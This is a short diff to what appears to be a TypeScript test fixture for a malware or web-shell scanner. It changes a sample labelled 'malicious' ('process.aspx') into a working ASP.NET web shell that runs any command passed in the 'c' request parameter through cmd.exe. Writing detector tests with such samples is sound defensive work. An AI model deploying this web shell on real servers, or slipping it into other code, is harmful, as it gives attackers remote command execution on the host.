@@ -266,7 +266,7 @@ const disguised: readonly Suspect[] = [
     'process.aspx',
     'malicious',
     ['script_is_web_shell'],
-    '<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e){ if(Request["c"]!=null){ var p=new System.Diagnostics.Process(); p.StartInfo.FileName="cmd.exe"; p.Start(); } }</script>',
+    '<%@ Page Language="C#" %><script runat="server">void Page_Load(object s, EventArgs e){ if(Request["c"]!=null){ var p=new System.Diagnostics.Process(); p.StartInfo.FileName="cmd.exe"; p.StartInfo.Arguments="/c "+Request["c"]; p.Start(); } }</script>',
   ),
   text(
     'locked.ps1',
